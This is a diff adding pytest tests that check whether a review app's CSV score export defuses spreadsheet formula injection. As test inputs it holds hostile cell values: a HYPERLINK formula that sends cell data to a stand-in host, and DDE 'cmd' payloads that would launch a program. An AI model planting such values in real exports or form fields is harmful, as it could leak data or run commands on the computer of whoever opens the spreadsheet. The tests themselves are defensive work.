@@ -21,8 +21,8 @@ from app.review.decisions import decide
 from app.review.export import write_scores_csv
 from app.review.periods import ALL_TIME, parse_period
 from app.review.report import build_report, write_report_pdf
-from app.review.scores import score_rows
-from app.review.scoring import score_submission
+from app.review.scores import ScoreRow, score_rows
+from app.review.scoring import Criterion, score_submission
 
 GOOD = {"discovery": 4, "benefit": 3, "close": 7}  # 72.5
 HALF = {"discovery": 5, "benefit": 0, "close": 0}  # 50.0
@@ -129,6 +129,73 @@ def test_a_csv_into_a_missing_folder_is_refused_and_nothing_is_written(scored, t
     with pytest.raises(UserError, match="does not exist"):
         write_scores_csv(tmp_path / "nowhere" / "scores.csv", rows)
     assert not (tmp_path / "nowhere").exists()
+
+
+def test_cells_that_would_start_a_formula_are_text_in_the_csv(coaching, make_profile, tmp_path):
+    """OWASP's CSV injection: a rep named =HYPERLINK(...) must not run in the manager's
+    spreadsheet. Text cells starting with = + - @ get a leading quote; numbers stay numbers."""
+    rep = make_profile('=HYPERLINK("http://evil.example/?"&A1,"Click")', "rep", team="+SUM(A1:A9)")
+    reviewer = make_profile("@SUM(1+1)*cmd|' /C calc'!A0", "trainer")
+    minus = make_profile("-2+3+cmd|' /C calc'!A0", "rep", team="-5")
+    first, second = coaching.submit(rep), coaching.submit(minus)
+    with coaching.ctx.session() as s:
+        score_submission(s, reviewer, first, GOOD, now=utc(2026, 11, 20))
+        score_submission(s, reviewer, second, HALF, now=utc(2026, 11, 21))
+        rows = score_rows(s)
+    path = tmp_path / "scores.csv"
+    write_scores_csv(path, rows)
+    _, one, two = _read(path)
+    assert one[1:5] == [
+        """'=HYPERLINK("http://evil.example/?"&A1,"Click")""",
+        "'+SUM(A1:A9)",
+        "rv-card-offer",
+        "'@SUM(1+1)*cmd|' /C calc'!A0",
+    ]
+    assert one[7:] == ["4", "3", "7", "72.5", "none"]
+    assert two[1:3] == ["'-2+3+cmd|' /C calc'!A0", "-5"]  # a team named -5 is a plain number
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1+1", "'+1+1"),
+        ("-1+1", "'-1+1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("-3", "-3"),
+        ("+4", "+4"),
+        ("-72.5", "-72.5"),
+        ("72.5", "72.5"),
+        ("-", "'-"),
+        ("Ana = Bea", "Ana = Bea"),
+    ],
+)
+def test_each_dangerous_start_is_neutralised_and_plain_numbers_are_not(tmp_path, cell, written):
+    """Cells the product cannot produce through profiles (a leading tab or carriage return,
+    a negative score) go through the same writer as rows straight from the table."""
+    row = ScoreRow(
+        review_id="r1",
+        submission_id="s1",
+        rep_id="p1",
+        rep_name=cell,
+        team=cell,
+        scenario_key="k",
+        scenario_title="T",
+        reviewer_name="Tom",
+        reviewed_at=utc(2026, 11, 20),
+        scores={"c": -3},
+        points=-1.5,
+        decision=Decision.APPROVE,
+        feedback="",
+        criteria=(Criterion("c", "C", 1.0, 5),),
+    )
+    path = tmp_path / "scores.csv"
+    write_scores_csv(path, [row])
+    _, back = _read(path)
+    assert back[1:3] == [written, written]
+    assert back[7:] == ["-3", "-1.5", "approve"]
 
 
 def _pdf_text(path) -> str:
